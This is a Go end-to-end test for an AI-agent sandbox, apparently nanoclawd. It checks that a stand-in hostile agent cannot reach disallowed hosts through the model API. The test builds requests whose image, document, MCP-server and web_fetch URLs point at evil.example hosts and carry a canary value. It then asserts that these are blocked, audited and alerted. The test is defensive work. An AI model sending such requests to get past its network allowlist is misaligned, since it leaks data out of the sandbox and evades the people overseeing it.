package e2e_test

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/nanoclawd/nanoclawd/internal/testkit/e2e"
	"github.com/nanoclawd/nanoclawd/internal/testkit/mockapi"
)

// The model API fetches only what the group may reach, attacked from
// outside the SDK: a confined stand-in agent (internal/testkit/hostileagent)
// sends through its relay URL-sourced image and document blocks (at the
// top and inside a tool_result), an MCP server by URL, and web_fetch —
// which its override allows — with a domain list of its own, each
// disallowed URL carrying a canary. None of it reaches the API: the
// agent is answered 400 naming the host, each host is audited in
// security.jsonl and alerted to the main chat with an /allow code, and
// the canary is in no upstream request. What the group may reach passes:
// an image of an allowed host, and web_fetch held to the group's domains.
func TestAPIFetchesOnlyWhatTheGroupMayReach(t *testing.T) {
	canary := "CANARY-" + randHex(t)
	mock := mockapi.New(t)
	msg := func(content, extra string) string {
		return `{"model":"claude-sonnet-4-5","max_tokens":64,"messages":[{"role":"user","content":` + content + `}]` + extra + `}`
	}
	block := func(typ, u string) string {
		return fmt.Sprintf(`{"type":%q,"source":{"type":"url","url":%q}}`, typ, u)
	}
	bodies := []string{
		msg(`[`+block("image", "https://img.evil.example/a.png?d="+canary)+`]`, ""),
		msg(`[{"type":"tool_result","tool_use_id":"toolu_1","content":[`+block("document", "https://docs.evil.example/r.pdf?d="+canary)+`]}]`, ""),
		msg(`"hi"`, `,"mcp_servers":[{"type":"url","url":"https://mcp.evil.example/sse?d=`+canary+`","name":"far"}]`),
		msg(`"fetch it"`, `,"tools":[{"type":"web_fetch_20250910","name":"web_fetch","allowed_domains":["`+strings.ToLower(canary)+`.evil.example"]}]`),
		msg(`[`+block("image", "https://img.allowed.example/ok.png")+`]`, ""),
	}
	in := e2e.New(t, e2e.Options{
		Agent: `"command": [` + e2e.Quote(e2e.Bin(t, "internal/testkit/hostileagent")) + `], "env": ["ANTHROPIC_API_KEY", "HOSTILE_API"]`,
		Env:   []string{"ANTHROPIC_API_KEY=sk-ant-real-" + randHex(t), "ANTHROPIC_BASE_URL=" + mock.URL, "HOSTILE_API=" + strings.Join(bodies, "\n")},
	})
	in.AddGroup("local:main", "main", "--main")
	in.AddGroup("local:family", "family", "--no-trigger")
	override := filepath.Join(t.TempDir(), "family.json")
	os.WriteFile(override, []byte(`{"tools": ["web_fetch", "mcp_servers"], "network": {"allowedDomains": ["*.allowed.example"]}}`), 0o600)
	in.CLI("groups", "set-security", "family", "--file", override)
	in.Start()

	in.Post("local:family", "Eve", "go")
	reply := strings.Join(e2e.InChat(in.WaitFor("local:family", func(s string) bool { return strings.Contains(s, "API 4:") }), "local:family"), "\n")
	refusedHosts := []string{"img.evil.example", "docs.evil.example", "mcp.evil.example"}
	for i, host := range refusedHosts {
		line := apiLine(reply, i)
		if !strings.HasPrefix(line, "400 ") || !strings.Contains(line, host) || !strings.Contains(line, "/allow") || !strings.Contains(line, "network.allowedDomains") {
			t.Errorf("request %d was not refused naming %s and how to allow it: %q", i, host, line)
		}
	}
	for _, i := range []int{3, 4} {
		if line := apiLine(reply, i); !strings.HasPrefix(line, "200 ") {
			t.Errorf("request %d, which the group may make, got %q", i, line)
		}
	}

	log := mock.Log()
	if mock.Contains(canary) || mock.Contains(strings.ToLower(canary)) {
		t.Errorf("the canary reached the model API")
	}
	if len(log) != 2 {
		t.Fatalf("the model API got %d requests, want the 2 the group may make", len(log))
	}
	var fetch struct {
		Tools []struct {
			Name           string   `json:"name"`
			AllowedDomains []string `json:"allowed_domains"`
		} `json:"tools"`
	}
	json.Unmarshal(log[0].Body, &fetch)
	if len(fetch.Tools) != 1 || !slices.Equal(fetch.Tools[0].AllowedDomains, []string{"allowed.example"}) {
		t.Errorf("web_fetch reached the API as %s", log[0].Body)
	}
	if !strings.Contains(string(log[1].Body), "https://img.allowed.example/ok.png") {
		t.Errorf("the allowed image reached the API as %s", log[1].Body)
	}

	h := &ipcInstall{Install: in}
	for _, host := range append(refusedHosts, strings.ToLower(canary)+".evil.example") {
		e := h.waitAudit("family", func(e auditEntry) bool { return e.Target == host })
		if e.Kind != "network" || e.Action != "blocked" {
			t.Errorf("%s audited as %+v", host, e)
		}
		in.WaitFor("local:main", func(s string) bool {
			return strings.HasPrefix(s, "[SANDBOX ALERT]") && strings.Contains(s, host) && strings.Contains(s, "/allow ")
		})
	}
	if v := in.CLI("violations", "--group", "family"); !strings.Contains(v, "img.evil.example") {
		t.Errorf("nanoclawd violations lacks the refused image host:\n%s", v)
	}
}

// apiLine is what the hostile agent reported of its i-th API request.
func apiLine(reply string, i int) string {
	prefix := fmt.Sprintf("API %d: ", i)
	for line := range strings.Lines(reply) {
		if rest, ok := strings.CutPrefix(line, prefix); ok {
			return strings.TrimSpace(rest)
		}
	}
	return ""
}
